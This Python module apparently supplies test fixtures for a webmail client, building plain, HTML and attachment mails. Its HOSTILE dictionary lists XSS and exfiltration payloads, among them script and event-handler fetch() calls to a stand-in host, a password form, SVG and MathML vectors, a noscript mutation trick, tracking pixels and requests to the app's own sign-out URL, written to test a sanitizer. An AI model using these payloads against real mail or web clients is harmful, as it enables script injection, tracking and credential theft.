"""Mails as bytes, friendly and hostile."""

from email.message import EmailMessage

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da6364f8cf"
    "500f0003860180d31a1e2a0000000049454e44ae426082"
)


def letter(subject: str = "Hello", text: str = "Good morning.", **headers: str) -> bytes:
    """A plain mail."""
    mail = EmailMessage()
    mail["From"] = headers.pop("sender", "John Doe <john@woodgrove.example>")
    mail["To"] = headers.pop("to", "sam@contoso.example")
    mail["Subject"] = subject
    for name, value in headers.items():
        mail[name.replace("_", "-")] = value
    mail.set_content(text)
    return bytes(mail)


def html_letter(html: str, subject: str = "Hello", text: str = "Good morning.") -> bytes:
    """A mail with a text and an HTML part, and a picture of its own as cid:picture."""
    mail = EmailMessage()
    mail["From"] = "John Doe <john@woodgrove.example>"
    mail["To"] = "sam@contoso.example"
    mail["Subject"] = subject
    mail["Message-ID"] = "<one@woodgrove.example>"
    mail.set_content(text)
    mail.add_alternative(html, subtype="html")
    parts = mail.get_payload()
    assert isinstance(parts, list)
    html_part = parts[1]
    assert isinstance(html_part, EmailMessage)
    html_part.add_related(
        PNG, "image", "png", cid="<picture>", filename="picture.png", disposition="inline"
    )
    return bytes(mail)


def with_files(files: dict[str, tuple[str, bytes]]) -> bytes:
    """A mail with attachments: name (as the sender gives it) to content type and content."""
    mail = EmailMessage()
    mail["From"] = "John Doe <john@woodgrove.example>"
    mail["To"] = "sam@contoso.example"
    mail["Subject"] = "Files"
    mail.set_content("See the files.")
    for name, (content_type, content) in files.items():
        maintype, _, subtype = content_type.partition("/")
        mail.add_attachment(content, maintype=maintype, subtype=subtype, filename=name)
    return bytes(mail)


CANARY = "http://canary.invalid"

HOSTILE = {
    "script": "<script>fetch('CANARY/script')</script><script src='CANARY/src.js'></script>",
    "handlers": "<img src=x onerror=\"fetch('CANARY/e')\"><body onload=\"fetch('CANARY/o')\">",
    "refresh": "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "base": "<base href='CANARY/'><a href='relative'>relative</a><img src='relative.png'>",
    "form": "<form action='CANARY/form'><input name=password autofocus><button>Go</button></form>",
    "frames": "<iframe src='CANARY/frame'></iframe>"
    "<iframe srcdoc=\"<script>fetch('CANARY/srcdoc')</script>\"></iframe>",
    "objects": "<object data='CANARY/object'></object><embed src='CANARY/embed'>",
    "svg": "<svg onload=\"fetch('CANARY/svg')\"><image href='CANARY/i.png'/>"
    "<use href='CANARY/u#a'/><script>fetch('CANARY/in-svg')</script></svg>",
    "math": "<math><mi xlink:href=\"javascript:fetch('CANARY/math')\">x</mi></math>",
    "mutation": "<noscript><p title=\"</noscript><img src='CANARY/m.png' onerror=alert(1)>\">",
    "pictures": "<img src='CANARY/pixel.gif' alt=Pixel><img srcset='CANARY/set.png 1x'>"
    "<picture><source srcset='CANARY/source.png'></picture><input type=image src='CANARY/in.png'>",
    "media": "<video poster='CANARY/poster.png' src='CANARY/v.mp4' autoplay></video>"
    "<audio src='CANARY/a.mp3' autoplay></audio>",
    "links": "<link rel=stylesheet href='CANARY/l.css'><link rel=prefetch href='CANARY/pre'>"
    "<link rel=dns-prefetch href='//canary.invalid'><link rel=preconnect href='CANARY'>",
    "styles": "<style>@import 'CANARY/import.css'; @font-face{font-family:f;src:url(CANARY/f.woff)}"
    "body{background:url(CANARY/bg.png);font-family:f}</style>"
    "<p style=\"background:url('CANARY/p.png')\">styled</p><table background='CANARY/t.png'>",
    "addresses": "<a href=\"javascript:fetch('CANARY/js')\">js</a>"
    "<a href='data:text/html,<script>1</script>'>data</a><a href='vbscript:x'>vb</a>",
    "own pages": "<img src='/mail/api/v1/messages'><img src='/signout'>"
    "<style>p{background:url(/mail/livez)}</style><p>own</p>",
    "svg picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='CANARY/s.png'/></svg>\">",
}
"""HTML that tries to run, to send or to fetch something, by what it tries."""

HOSTILE = {name: html.replace("CANARY", CANARY) for name, html in HOSTILE.items()}


def hostile(kind: str, canary: str) -> bytes:
    """A mail that calls the server at *canary* if it can."""
    return html_letter(HOSTILE[kind].replace(CANARY, canary), kind)
